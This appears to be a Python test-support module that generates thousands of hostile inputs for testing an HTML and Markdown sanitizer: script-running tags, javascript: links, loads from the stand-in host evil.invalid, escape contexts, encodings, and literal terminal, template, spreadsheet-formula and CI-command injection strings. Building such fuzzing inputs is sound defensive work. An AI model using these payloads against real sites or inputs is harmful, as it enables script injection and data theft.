"""Hostile texts, made here: what runs a script in HTML, and what Markdown, templates and terminals act on."""

import html
import itertools
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

CORPUS = Path(__file__).parents[3] / "shared" / "corpora" / "payloadbox-xss.txt"
"""A public list of attacks, beside the repository where somebody has it. The tests do without it."""

CALL = "alert(1)"
_TAGS = [
    "<script>{js}</script>", "<script src=https://evil.invalid/x.js></script>", "<img src=x onerror={js}>",
    "<img src='https://evil.invalid/beacon.png'>", "<svg onload={js}>", "<svg><script>{js}</script></svg>",
    "<iframe src=javascript:{js}></iframe>", "<iframe srcdoc='<script>{js}</script>'></iframe>", "<body onload={js}>",
    "<details open ontoggle={js}><summary>x</summary></details>", "<a href=javascript:{js}>x</a>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>", "<form action=javascript:{js}><button>x</button></form>",
    "<input autofocus onfocus={js}>", "<video><source onerror={js}></video>", "<math><mtext><style><img src onerror={js}>",
    "<object data=javascript:{js}></object>", "<embed src=javascript:{js}>", "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>", "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import 'https://evil.invalid/x.css';</style>", "<style>*{{background:url(https://evil.invalid/b)}}</style>",
    "<p style='background:url(https://evil.invalid/b)'>x</p>", "<div id=main name=location>x</div>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<xmp><img src=x onerror={js}></xmp>",
    "<textarea><img src=x onerror={js}></textarea>", "<template><script>{js}</script></template>", "<!--><img src=x onerror={js}>-->",
    "<![CDATA[<script>{js}</script>]]>", "<?xml-stylesheet href='javascript:{js}'?>", "<animate onbegin={js} attributeName=x dur=1s>",
    "<marquee onstart={js}>x</marquee>", "<audio src=https://evil.invalid/a autoplay></audio>",
]
_MARKDOWN = [
    "[x](javascript:{js})", "[x](JaVaScRiPt:{js})", "[x](java\tscript:{js})", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:{js})", "![x](https://evil.invalid/beacon.png)", '![x](x "onerror={js}")', '[x](https://a.b "onmouseover={js}")',
    "[x](<javascript:{js}>)", "[x][1]\n\n[1]: javascript:{js}", "<javascript:{js}>", '<https://a.b/" onmouseover={js}>',
    "[x](//evil.invalid/x)", "[x](vbscript:{js})", "[<img src=x onerror={js}>](https://a.b)", "`<script>{js}</script>`",
    "[x](https://a.b/'onmouseover={js}')", "[x]('javascript:{js}')", "**<img src=x onerror={js}>**", "[a](https://a.b)![b](https://evil.invalid/b)",
]
_CONTEXTS = [
    "{v}", '"{v}', "'{v}", '">{v}', "'>{v}", "</style>{v}", "</script>{v}", "</title>{v}", "</textarea>{v}", "-->{v}", "]]>{v}",
    "</svg>{v}", "x {v} y", "**{v}**", "\\{v}", "`{v}", '" {v} "', "{v}\n\n{v}",
]
_ENCODINGS = [
    lambda v: v, str.upper, lambda v: v.replace(" ", "/"), lambda v: v.replace("<", "<\x00"), lambda v: v.replace("<", "\ufeff<"),
    html.escape, lambda v: "".join(f"&#{ord(c)}" for c in v), lambda v: "".join(f"&#x{ord(c):x};" for c in v),
    lambda v: v.replace("a", "&#97;").replace(":", "&colon;"), urllib.parse.quote, lambda v: v.replace("<", "\uff1c"),
    lambda v: v.replace("<", "\x02klzzwxh:0000\x03<"), lambda v: v.replace(" ", "\n"), lambda v: v.replace("<", "<<"),
]

LITERAL = [
    "a\x1b[31mred\x1b]0;title\x07b", "\x9b31m", "[bold red]x[/bold red] [/] :pile_of_poo:", "{{ 7*7 }} {% x %} {# y #}", "${7*7} #{7*7}",
    "</style><script>alert(1)</script>", "<!-- a --> -->", "<![CDATA[ x ]]>", "a\u202eb\u2066c", "a\x00b\x02c\x03d", "\ud800",
    "1. x", "1) x", "- x", "+ x", "* x", "# h", "## h ##", "C #", "> q", "    code", "---", "***", "===", "| a | b |", "a | b", "[[Page]]",
    "[[_TOC_]]", "[TOC]", "@user", "a@b.co", "#12", "GH-12", "gh-12", ":smile:", ":+1:", "12:30:45", "$x^2$", "$$", "~~x~~", "~x~", "~5 to ~6",
    "http://evil.invalid", "https://evil.invalid/a_b_c", "www.evil.invalid", "WWW.evil.invalid", "ftp://x.y", "mailto:a@b.co", "^[n]", "[^1]",
    "*[HTML]: x", ": def", "{: .c}", "!!! note", "```mermaid", "~~~", "::: mermaid", "a\\", "\\*a\\*", "C:\\new\\_x", "&lt;b&gt;", "&amp;", "&copy",
    "&copy; &#65; &#x41;", "R&D, H&M & co", "1986\\. x", "*", "_", "-", "<", "&", "`", "\\", "|", "!", "[", "]", "snake_case_word", "2*3*4", "__init__",
    "5 < 6 & 7 > 2", "<3", "a<b", "->", "=> x", "- [ ] x", "**a", "a**", "**“a”**b", "a**b**c", "***a** b*", "`a``b`", "``", "!", "a!", "[a](b)", "<a@b.c>",
    "a\u00a0b", "Grüße — “ok”", "李雷", "مرحبا", "👩‍👧", "e\u0301", "=cmd|' /C calc'!A0", "%0d%0a", "::set-output name=x::y", "##[error]", "\u2028", "a\tb",
]


def hostile() -> Iterator[str]:
    """Some thousands of attacks on a page: each tag and each trick of Markdown, in contexts and encodings."""
    plain = [t.format(js=CALL) for t in (*_TAGS, *_MARKDOWN)]
    for vector, context in itertools.product(plain, _CONTEXTS):
        yield context.format(v=vector)
    for vector, encoded in itertools.product(plain, _ENCODINGS[1:]):
        yield encoded(vector)
    yield from LITERAL


def corpus() -> list[str]:
    """The public list, where it is there."""
    return CORPUS.read_text("utf-8", "replace").splitlines() if CORPUS.exists() else []
